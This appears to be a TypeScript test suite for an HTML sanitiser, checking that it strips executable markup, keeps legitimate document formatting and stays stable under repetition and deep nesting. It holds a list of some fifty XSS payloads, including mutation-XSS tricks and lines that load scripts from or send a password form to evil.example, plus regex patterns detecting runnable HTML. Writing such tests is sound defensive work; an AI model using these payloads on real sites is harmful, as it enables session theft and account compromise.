import fc from 'fast-check'
import { escapeHtml, plainText, sanitise } from './sanitise.ts'

/** What must not be in sanitised HTML, wherever it came from. */
const canRun = [
  /<\s*\/?\s*(script|iframe|object|embed|form|input|button|meta|base|link|style|svg|math|template|noscript|textarea|title|xmp|plaintext|video|audio|source|frameset|applet|body|html)\b/i,
  /<[^>]*\son[a-z]+\s*=/i,
  /<[^>]*\b(?:href|src|style|action|formaction|srcset|xlink:href)\s*=\s*"[^"]*(?:javascript|vbscript)\s*:/i,
  /<[^>]*\bhref\s*=\s*"\s*data:/i,
  /<[^>]*\bstyle\s*=\s*"[^"]*(?:expression|url\s*\(|behavior|-moz-binding|@import)/i,
  /<[^>]*\b(?:srcdoc|srcset|formaction|action|ping|name|target|xmlns)\s*=/i,
  // A name that the page or its scripts know: a text's own begin in a way of their own.
  /<[^>]*\bid\s*=\s*(?!"text-[\w:.-]+")/i,
  /<!--|<!\[|<\?/,
]

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror   =  "alert(1)"/>',
  '<img/src/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="x 1x, javascript:alert(1) 2x" src="https://a.example/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example" target="_blank" ping="//evil.example">x</a>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="color:red;-moz-binding:url(//evil.example/x.xml#y)">x</p>',
  '<p style="border:1px url(//evil.example/x) solid">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<iframe src="//evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x.swf">',
  '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="javascript:alert(1)"?>',
  '<p title="`onmouseover=alert(1)">x</p><p id="location" name="cookie">x</p>',
  '<<script>alert(1);//<</script>',
  '<p\u0000onclick=alert(1)>x</p>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
]

describe('hostile HTML', () => {
  test.each(hostile)('%s', html => {
    const clean = sanitise(html)
    for (const pattern of canRun) expect(clean).not.toMatch(pattern)
    expect(sanitise(clean)).toBe(clean)
  })
})

describe('what a document needs stays', () => {
  test.each([
    '<h2>Scope</h2><p>Text with <strong>weight</strong>, <em>slant</em> and <a href="https://a.example/b?c=1&amp;d=2">a link</a>.</p>',
    '<p>Call <a href="tel:02079460000">us</a> or <a href="mailto:a@example.test">write</a>.</p>',
    '<ol start="3"><li>Step<ul><li>Detail</li></ul></li></ol>',
    '<ol><li>One</li></ol><ol start="5"><li>Five</li></ol>',
    '<table><thead><tr><th scope="col" colspan="2">Role</th></tr></thead><tbody><tr><td rowspan="2">Manager</td></tr></tbody></table>',
    '<img src="https://a.example/a.png" alt="A hand" width="40" height="30" />',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" />',
    `<img src="/api/document-picture/${'aB_-9'.repeat(8)}abc" alt="" /><img src="/uploads/hands_1f2e.png" alt="" />`,
    '<p style="color:#0f4c4a;text-align:center">{{company.name}} &amp; &lt;you&gt;</p>',
    '<table class="table-style-align-right" style="border-style:none"><tbody><tr><td style="border-color:#ab231c;border-style:dashed;border-width:2px;vertical-align:top">Kept</td></tr></tbody></table>',
    '<div class="page-break"></div><p><span class="placeholder">Company name</span></p>',
  ])('%s', html => expect(sanitise(html)).toBe(html))
})

describe('what people mean is kept', () => {
  test.each([
    [
      'what was struck out stays struck out',
      '<p>Give <del>17</del> <ins>12</ins> ml</p>',
      '<p>Give <s>17</s> <u>12</u> ml</p>',
    ],
    [
      'terms and what they mean stay apart',
      '<dl><dt>COSHH</dt><dd>Control of substances</dd><dt>PPE</dt><dd>Gloves</dd></dl>',
      '<p><strong>COSHH</strong></p><p style="margin-left:2em">Control of substances</p><p><strong>PPE</strong></p><p style="margin-left:2em">Gloves</p>',
    ],
    [
      'links within the text lead somewhere',
      '<h2 id="duty">Duty</h2><p><a href="#duty">Above</a></p>',
      '<h2 id="text-duty">Duty</h2><p><a href="#text-duty">Above</a></p>',
    ],
    [
      'footnotes and their numbers find each other',
      '<p>Act<sup id="r1"><a href="#f1">1</a></sup></p><p id="f1">See it <a href="#r1">↩</a></p>',
      '<p>Act<a href="#text-f1"><sup id="text-r1">1</sup></a></p><p id="text-f1">See it <a href="#text-r1">↩</a></p>',
    ],
    [
      'an item keeps its number',
      '<ol><li>One</li><li value="7">Seven</li></ol>',
      '<ol><li>One</li><li value="7">Seven</li></ol>',
    ],
    [
      'a short form keeps what it stands for',
      '<p><abbr title="Care Quality Commission">CQC</abbr> <acronym title="General practitioner">GP</acronym></p>',
      '<p><abbr title="Care Quality Commission">CQC</abbr> <abbr title="General practitioner">GP</abbr></p>',
    ],
    [
      'boxes are ticked or not',
      '<p><input type="checkbox" checked>Read<br><input type="checkbox">Signed</p><p><input type="radio" checked>Yes <input type="text" value="x"></p>',
      '<p>☑ Read<br />☐ Signed</p><p>● Yes</p>',
    ],
    [
      'cells stay aligned',
      '<table><tbody><tr><td align="right" valign="top">17</td></tr></tbody></table>',
      '<table><tbody><tr><td style="text-align:right;vertical-align:top">17</td></tr></tbody></table>',
    ],
    [
      'code keeps its language',
      '<pre><code class="language-sql evil">select 1</code></pre>',
      '<pre><code class="language-sql">select 1</code></pre>',
    ],
  ])('%s', (_, given, kept) => {
    expect(sanitise(given)).toBe(kept)
    expect(sanitise(kept)).toBe(kept)
  })

  test.each([
    ['lang', 'x '.repeat(10_000)],
    ['lang', 'not a language'],
    ['class', `text-${'x'.repeat(10_000)}`],
    ['style', `border:${'1px '.repeat(3000)}`],
    ['title', 'x'.repeat(10_000)],
    ['id', 'x'.repeat(200)],
  ])('a %s that nobody writes is left out', (name, value) =>
    expect(sanitise(`<blockquote ${name}="${value}"><p>A</p></blockquote>`)).toBe('<blockquote><p>A</p></blockquote>'),
  )
})

describe('hundred thousand opening tags', () => {
  const opened = (tag: string, count: number) =>
    `<${tag}>`.repeat(count) + 'deep' + `</${tag}>`.repeat(count) + '<p>after</p>'
  test.each(['b', 'div', 'blockquote', 'font', 'span', 'section'])('<%s>: the text stays', tag => {
    const clean = sanitise(opened(tag, 100_000))
    expect(plainText(clean)).toBe('deep after')
    expect(clean.length).toBeLessThan(5000)
    expect(sanitise(clean)).toBe(clean)
  })
})

test.each([
  '/api/user/logout',
  '/api/document-picture/short',
  `/api/document-picture/${'a'.repeat(43)}/../x`,
  '/uploads/../api/x',
  '//evil.example/a.png',
  'a.png',
  '',
  '{{company.website}}',
])('a picture from %s is left out', src => expect(sanitise(`<p>A</p><img src="${src}">`)).toBe('<p>A</p>'))

describe('as properties', () => {
  const pieces = fc
    .array(
      fc.oneof(
        fc.constantFrom(...hostile, '<p>', '</p>', '<table>', '<td ', '"', "'", '>', '<', '&#', 'style=', 'href='),
        fc.string({ unit: 'binary', maxLength: 12 }),
      ),
      { maxLength: 12 },
    )
    .map(parts => parts.join(''))

  test('doing it twice changes nothing more', () => {
    fc.assert(
      fc.property(pieces, html => sanitise(sanitise(html)) === sanitise(html)),
      { numRuns: 400 },
    )
  })

  test('nothing that can run comes out', () => {
    fc.assert(
      fc.property(pieces, html => {
        const clean = sanitise(html)
        return canRun.every(pattern => !pattern.test(clean))
      }),
      { numRuns: 400 },
    )
  })

  test('escaped text is text again, and nothing else', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme' }),
        text => !/[<>"']/.test(escapeHtml(text)) && sanitise(`<p>${escapeHtml(text)}</p>`).startsWith('<p>'),
      ),
      { numRuns: 200 },
    )
  })
})

test('the text of HTML is plain, with words kept apart', () => {
  expect(plainText('<h2>Who</h2><p>You &amp; <b>me</b> &lt;3</p><script>no()</script>')).toBe('Who You & me <3')
})

// What `sanitise` wrote is read without a parser, everything else with one; both read the same.
test.each([
  ['<p class="note">a</p><p>b<br>c</p>', 'a b c'],
  ['<a href="https://x.example/?a=1&amp;b=2">a</a> &amp;lt; b', 'a &lt; b'],
  ['a < b', 'a < b'],
  ['<p title="a>b">c</p>', 'c'],
  ['<P>a</P>&nbsp;b', 'a b'],
  ['<!-- a -->b', 'b'],
  ["<p title='a'>b</p>", 'b'],
  ['<script>a</script>b', 'b'],
  ['<textarea>a</textarea>b', 'b'],
  ['a\r\nb', 'a b'],
  ['<p>a', 'a'],
  ['', ''],
])('the text of %j', (html, expected) => expect(plainText(html)).toBe(expected))
